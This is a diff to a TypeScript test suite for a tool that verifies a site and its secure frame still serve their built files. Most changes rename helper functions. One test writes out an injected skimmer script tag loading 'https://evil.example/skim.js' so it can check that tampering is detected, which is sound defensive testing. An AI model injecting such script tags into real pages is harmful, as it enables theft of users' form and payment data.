@@ -42,19 +42,19 @@ const frame: PageFiles = {
   files: new Map(),
 };
 
-const answer = (body: string, headers: Readonly<Record<string, string>>, status = 200): SiteResponse => ({
+const responseOf = (body: string, headers: Readonly<Record<string, string>>, status = 200): SiteResponse => ({
   status,
   headers: Object.fromEntries(Object.entries(headers).map(([name, value]) => [name.toLowerCase(), value])),
   body: Buffer.from(body),
 });
 
 /** Returns the responses of a site and of its secure frame, by URL, when they serve the build. */
-async function answersOf(
+async function responsesOf(
   address: string,
   frameAddress: string,
   { scriptPath, scriptIntegrity, script }: { scriptPath: string; scriptIntegrity: string; script: string },
 ): Promise<Map<string, SiteResponse>> {
-  const answers = new Map<string, SiteResponse>();
+  const responses = new Map<string, SiteResponse>();
   const { rules } = JSON.parse(
     await describeSite(partner, { ...environment, secureFrameUrl: frameAddress }, 'json'),
   ) as { readonly rules: SiteRules };
@@ -65,19 +65,19 @@ async function answersOf(
     '/404.html': 'no-such-page',
   };
   for (const { file, status, headers } of rules.pages)
-    answers.set(
+    responses.set(
       address + addresses[file],
-      answer(built[file] ?? '', { ...rules.headers, ...headers, Date: 'now' }, status),
+      responseOf(built[file] ?? '', { ...rules.headers, ...headers, Date: 'now' }, status),
     );
   for (const path of ['/worker.js', '/assets/app-a1b2c3d4.js']) {
     const own = rules.files.find((one) => new RegExp(one.path).test(path))?.headers;
-    answers.set(new URL(path, address).href, answer(built[path] ?? '', { ...rules.headers, ...own }));
+    responses.set(new URL(path, address).href, responseOf(built[path] ?? '', { ...rules.headers, ...own }));
   }
   const policy = framedPagePolicy(new URL(partner.siteUrl).origin);
   const page = `<script type="module" src="${scriptPath}" integrity="${scriptIntegrity}"></script>`;
-  answers.set(frameAddress, answer(page, { 'Content-Security-Policy': policy }));
-  answers.set(new URL(scriptPath, frameAddress).href, answer(script, {}));
-  return answers;
+  responses.set(frameAddress, responseOf(page, { 'Content-Security-Policy': policy }));
+  responses.set(new URL(scriptPath, frameAddress).href, responseOf(script, {}));
+  return responses;
 }
 
 let served = new Map<string, SiteResponse>();
@@ -89,7 +89,7 @@ beforeAll(async () => {
   }
   const files = Object.fromEntries(Object.entries(built).map(([path, text]) => [path, integrityOf(text)]));
   writeFileSync(join(folder, 'hilton/build-manifest.json'), JSON.stringify({ files }));
-  served = await answersOf(ADDRESS, FRAME, { ...frame, script: 'field' });
+  served = await responsesOf(ADDRESS, FRAME, { ...frame, script: 'field' });
 });
 afterAll(() => rmSync(folder, { recursive: true }));
 
@@ -99,8 +99,8 @@ const verify = (changes: Readonly<Record<string, (usual: SiteResponse) => SiteRe
     environment,
     address: ADDRESS,
     readFrame: async () => frame,
-    ask: async (url) => {
-      const usual = served.get(url) ?? answer('', {}, 404);
+    request: async (url) => {
+      const usual = served.get(url) ?? responseOf('', {}, 404);
       return changes[url]?.(usual) ?? usual;
     },
   });
@@ -118,9 +118,9 @@ test('SEC-04.a what is served as it was built has no difference', async () => {
 });
 
 test('SEC-04.a the command exits with 0 without a difference, and with 1 and the list', async () => {
-  const answers = new Map<string, SiteResponse>();
+  const responses = new Map<string, SiteResponse>();
   const server = createServer(({ url = '', headers: { host } }, response) => {
-    const { status, headers, body } = answers.get(`http://${host}${url}`) ?? answer('', {}, 404);
+    const { status, headers, body } = responses.get(`http://${host}${url}`) ?? responseOf('', {}, 404);
     response.writeHead(status, headers).end(body);
   });
   server.listen(0);
@@ -130,8 +130,12 @@ test('SEC-04.a the command exits with 0 without a difference, and with 1 and the
   const [address, frameAddress] = [`http://127.0.0.1:${port}/`, `http://localhost:${port}/`];
   const { scriptPath, scriptIntegrity, files } = await readPageFiles();
   const script = files.get(scriptPath)?.body ?? expect.fail();
-  const all = await answersOf(address, frameAddress, { scriptPath, scriptIntegrity, script: String(script) });
-  for (const [url, one] of all) answers.set(url, one);
+  const all = await responsesOf(address, frameAddress, {
+    scriptPath,
+    scriptIntegrity,
+    script: String(script),
+  });
+  for (const [url, one] of all) responses.set(url, one);
   const run = () =>
     promisify(execFile)(
       process.execPath,
@@ -146,7 +150,7 @@ test('SEC-04.a the command exits with 0 without a difference, and with 1 and the
     );
   expect((await run()).stdout).toBe(`${address} serves the build of hilton.\n`);
   const injected = '<script src="https://evil.example/skim.js"></script>';
-  answers.set(
+  responses.set(
     `${address}earn`,
     withBody((body) => body + injected)(all.get(`${address}earn`) ?? expect.fail()),
   );
@@ -198,7 +202,7 @@ test('SEC-04.d a script that is missing, changed or of an older build is found',
   expect(await verify({ [file]: withBody(() => 'app of before') })).toEqual([
     '/assets/app-a1b2c3d4.js: the file is not that of the build.',
   ]);
-  expect(await verify({ [file]: () => answer('', {}, 404) })).toEqual([
+  expect(await verify({ [file]: () => responseOf('', {}, 404) })).toEqual([
     '/assets/app-a1b2c3d4.js: the status is 404, not 200.',
   ]);
   expect(await verify({ [`${ADDRESS}worker.js`]: withBody(() => 'older') })).toEqual([
